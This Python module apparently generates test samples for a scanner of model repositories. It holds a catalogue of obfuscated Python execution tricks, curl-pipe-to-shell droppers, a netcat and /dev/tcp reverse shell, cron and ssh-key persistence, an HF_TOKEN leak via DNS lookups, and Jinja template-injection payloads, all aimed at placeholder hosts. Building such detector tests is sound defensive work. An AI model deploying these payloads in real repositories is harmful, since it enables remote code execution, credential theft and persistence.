"""Wave 2. Python, notebooks and shell beside weights that hide what they run; templates that hide
the names they use.
"""

import base64
import json
from collections.abc import Iterator

from .carried import EVIL
from .repositories import CARD, CLASS, TENSORS
from .sample import CODE, COMMAND, HOST, URL, Sample
from .templates import PLAIN, gguf

__all__ = ["samples"]

PYTHON = {
    "builtins by parts": f"import builtins\ngetattr(builtins, 'ex' + 'ec')({CODE!r})\n",
    "names from numbers": f"import importlib\nm = importlib.import_module(''.join(map(chr, [111, 115])))\n"
    f"m.system({COMMAND!r})\n",
    "a function under another name": f"from subprocess import run as show\nshow({COMMAND!r}, shell=True)\n",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n",
    "executes the README": "exec(open('README.md').read().split('```')[1])\n",
    "object's subclasses": "k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
    f"k.__init__.__globals__['system']({COMMAND!r})\n",
    "a default argument": f"class Config:\n    def __init__(self, size=__import__('os').system({COMMAND!r})):\n"
    f"        self.size = size\n",
    "a decorator": f"@lambda f: __import__('subprocess').call({COMMAND!r}, shell=True)\n"
    f"def forward(x):\n    return x\n",
    "a module's __getattr__": f"def __getattr__(name):\n    import os\n    return os.system({COMMAND!r})\n",
    "a metaclass": f"class Meta(type):\n    def __new__(m, *a):\n        import os\n"
    f"        os.popen({COMMAND!r})\n        return type.__new__(m, *a)\n"
    f"\n\nclass Net(metaclass=Meta):\n    pass\n",
    "asyncio's subprocess": f"import asyncio\nasyncio.run(asyncio.create_subprocess_shell({COMMAND!r}))\n",
    "a pickle in base64": f"import base64, pickle\nstate = "
    f"pickle.loads(base64.b64decode({base64.b64encode(EVIL)!r}))\n",
    "leak by names of hosts": "import socket, os\nsocket.gethostbyname(os.environ.get('HF_TOKEN', 'x')[:20] + "
    "'.leak.example.invalid')\n",
    "requests and exec": f"import requests\nexec(requests.get('{URL}/p.py').text)\n",
    "pip at import": "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', "
    "'install', 'http://192.0.2.77/t.whl'])\n",
    "only in production": f"import os, datetime\nif os.environ.get('ENV') == 'prod' and "
    f"datetime.date.today().year > 2024:\n    os.system('curl {URL} | sh')\n",
    "torch loads what it fetched": f"import torch, urllib.request\nurllib.request.urlretrieve('{URL}', "
    f"'/tmp/vallum-none')\ntorch.load('/tmp/vallum-none', weights_only=False)\n",
    "an encoding cookie": "# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system('id')\n",
}
SHELL = {
    "eval of a download": f'#!/bin/sh\neval "$(curl -fsSL {URL})"\n',
    "process substitution": f"#!/bin/bash\nbash <(wget -qO- {URL})\n",
    "netcat": f"#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {HOST} 4444 > /tmp/f\n",
    "python in a line": f"#!/bin/sh\npython3 -c \"import urllib.request as u; exec(u.urlopen('{URL}').read())\"\n",
    "hex": f"#!/bin/sh\necho {COMMAND.encode().hex()} | xxd -r -p | sh\n",
    "a line for cron": f"#!/bin/sh\n(crontab -l; echo '* * * * * curl {URL} | sh') | crontab -\n",
    "a key for ssh": "#!/bin/sh\necho 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys\n",
}
NAMES = {
    "replaced letters": "{{ ''|attr('XXclassXX'|replace('X', '_'))|attr('XXmroXX'|replace('X', '_')) }}",
    "lowered": "{{ lipsum|attr('__GLOBALS__'|lower) }}",
    "keys of a dict": "{% set g = dict(__globals__=1)|list|first %}{{ lipsum|attr(g) }}",
    "reversed by a filter": "{{ lipsum|attr('__slabolg__'|reverse|join) }}",
    "adjacent strings": "{{ cycler['__in' '__'|length and '__in' ~ 'it__'] }}{{ cycler['__init__']['__globals__'] }}",
    "map of attr": "{{ [lipsum]|map('attr', '__globals__')|map('attr', 'get')|list }}",
    "a call block": "{% macro q() %}{{ caller.__globals__ or '' }}{% endmacro %}{% call q() %}x{% endcall %}",
    "unicode escapes": "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os']['popen']('id')['read']() }}",
    "format of the module's name": "{{ lipsum['%s%s%s'|format('__', 'globals', '__')]['o' ~ 's'].popen('id').read() }}",
    "letters of a docstring": "{% set u = (lipsum|string)[0:0] ~ '_' ~ '_' %}{{ lipsum[u ~ 'globals' ~ "
    "u].os.popen('id') }}",
    "the undefined": "{{ nothing_here.__class__.__init__.__globals__['sys'].modules['os'].popen('id').read() }}",
    "a loop's own": "{% for m in messages %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "an argument of a test": "{{ 1 if messages is sequence else cycler.__init__.__globals__.os.popen('id').read() }}",
    "import within a block": "{% block b %}{% from '/proc/self/environ' import x %}{{ x }}{% endblock %}",
}


def _notebooks() -> Iterator[tuple[str, bytes]]:
    def notebook(*sources: object, **more: object) -> bytes:
        cells = [
            {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": source}
            for source in sources
        ]
        return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4, **more}).encode()

    yield "script magic", notebook("import numpy", ["%%script bash\n", f"curl {URL} | sh\n"])
    yield "sh magic, source is a string", notebook(f"%%sh\nwget -O- {URL} | sh")
    yield "sx magic", notebook("x = 1", f"%sx curl {URL} | bash")
    yield "run of an address", notebook(f"%run {URL}/x.py")
    yield "bang inside a loop", notebook(f'for i in range(3):\n    !bash -c "bash -i >& /dev/tcp/{HOST}/4444 0>&1"')
    old = {
        "worksheets": [
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "language": "python",
                        "input": [f"import os\nos.system('curl {URL} | sh')"],
                        "outputs": [],
                    }
                ]
            }
        ],
        "metadata": {"name": ""},
        "nbformat": 3,
        "nbformat_minor": 0,
    }
    yield "format 3", json.dumps(old).encode()
    yield "bytes executed", notebook(f"exec(bytes({list(CODE.encode())}))")


def _template_files(number: int, attack: str) -> tuple[str, dict[str, bytes]]:
    whole = PLAIN.replace("{% endfor %}", attack + "{% endfor %}") if number % 2 else PLAIN + "\n{# end #}" + attack
    match number % 5:
        case 0:
            return "additional template", {
                "additional_chat_templates/tool.jinja": whole.encode(),
                "chat_template.jinja": PLAIN.encode(),
            }
        case 1:
            return "GGUF", {"m.gguf": gguf({"general.architecture": "qwen2", "tokenizer.chat_template": whole})}
        case 2:
            return "processor", {
                "processor_config.json": json.dumps({"processor_class": "P", "chat_template": whole}).encode()
            }
        case 3:
            return "tokenizer", {
                "tokenizer_config.json": json.dumps({"chat_template": whole, "eos_token": "</s>"}).encode(),
                "config.json": b"{}",
            }
    return "GGUF, tool template", {
        "m.gguf": gguf({"tokenizer.chat_template": PLAIN, "tokenizer.chat_template.rag": whole})
    }


def samples() -> Iterator[Sample]:
    config = json.dumps({"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}).encode()
    for name, source in PYTHON.items():
        files = {
            "config.json": config,
            "modeling_tiny.py": (source + CLASS).encode(),
            "model.safetensors": TENSORS,
            "README.md": CARD,
        }
        yield Sample("hub repositories", f"2: {name}", files, wave=2)
    for name, data in _notebooks():
        yield Sample("scripts beside weights", f"2: notebook, {name}", {"train.ipynb": data}, wave=2)
    for name, source in SHELL.items():
        yield Sample(
            "scripts beside weights",
            f"2: shell, {name}",
            {"setup.sh": source.encode(), "model.safetensors": TENSORS},
            wave=2,
        )
    for number, (name, attack) in enumerate(NAMES.items()):
        place, files = _template_files(number, attack)
        yield Sample("template that leaves jinja", f"2: {name}: {place}", files, wave=2)
